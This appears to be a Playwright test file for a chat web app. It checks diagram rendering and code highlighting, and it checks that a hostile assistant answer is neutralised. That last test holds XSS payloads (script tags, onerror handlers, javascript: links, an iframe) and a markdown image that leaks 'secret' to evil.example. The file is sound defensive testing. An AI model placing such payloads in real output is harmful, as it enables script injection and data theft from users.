import type { Page } from '@playwright/test';
import { ask, finished } from './support/chat.js';
import { expect, signIn, test } from './support/journey.js';

/** The local model writes no diagrams and no attacks, so this one answer is given by the test, event by event. */
async function answerWith(page: Page, markdown: string): Promise<void> {
  await page.route('**/api/chat/runs', async (route) => {
    const { threadId, runId } = route.request().postDataJSON() as { threadId: string; runId: string };
    const events = [
      { type: 'RUN_STARTED', threadId, runId },
      { type: 'TEXT_MESSAGE_START', messageId: 'm', role: 'assistant' },
      { type: 'TEXT_MESSAGE_CONTENT', messageId: 'm', delta: markdown },
      { type: 'TEXT_MESSAGE_END', messageId: 'm' },
      { type: 'RUN_FINISHED', threadId, runId, outcome: { type: 'success' } },
    ];
    const body = events
      .map((event, at) => `id: ${runId}:${at + 1}\ndata: ${JSON.stringify(event)}\n\n`)
      .join('');
    await route.fulfill({ status: 200, contentType: 'text/event-stream', body });
  });
}

const DIAGRAM = '```mermaid\ngraph TD\n  A[Browser] --> B(Torii API)\n```';
const CODE = '```ts\nconst scope: string = "access_as_user";\n```';

test('a diagram is drawn as a picture, and code gets its colours', async ({ page }) => {
  await signIn(page, 'Ada');
  await answerWith(page, `Look:\n\n${DIAGRAM}\n\n${CODE}`);
  await ask(page, 'Draw it');
  await finished(page);
  await expect(page.getByRole('img', { name: 'Diagram' })).toBeVisible({ timeout: 20_000 });
  await expect(page.locator('.hljs-keyword')).toHaveText('const');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy' }).last().click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
});

test('what is no diagram stays code', async ({ page }) => {
  await signIn(page, 'Ada');
  await answerWith(page, '```mermaid\nthis is no diagram\n```');
  await ask(page, 'Draw it');
  await finished(page);
  await expect(page.locator('iframe')).toHaveCount(0, { timeout: 20_000 });
  await expect(page.getByRole('log')).toContainText('this is no diagram');
});

test('a hostile answer runs nothing and loads nothing from elsewhere', async ({ page }) => {
  const elsewhere: string[] = [];
  await signIn(page, 'Ada');
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) elsewhere.push(request.url());
  });
  page.on('dialog', (dialog) => {
    elsewhere.push(dialog.message());
    void dialog.dismiss();
  });
  await answerWith(
    page,
    [
      '<img src=x onerror=alert(1)><script>alert(2)</script>',
      '![secret](https://evil.example/p.png?d=secret)',
      '[go](javascript:alert(3))',
      '<iframe src="https://evil.example"></iframe>',
      '```mermaid\ngraph TD\n  A["<img src=https://evil.example/q.png onerror=alert(4)>"]\n  click A "javascript:alert(5)"\n```',
    ].join('\n\n'),
  );
  await ask(page, 'Attack');
  await finished(page);
  await expect(page.locator('iframe')).toHaveCount(0, { timeout: 20_000 });
  expect(elsewhere).toEqual([]);
  await expect(page.getByRole('log').getByRole('link', { name: 'go' })).toHaveCount(0);
  await expect(page.getByRole('log')).toContainText('<script>alert(2)</script>');
});
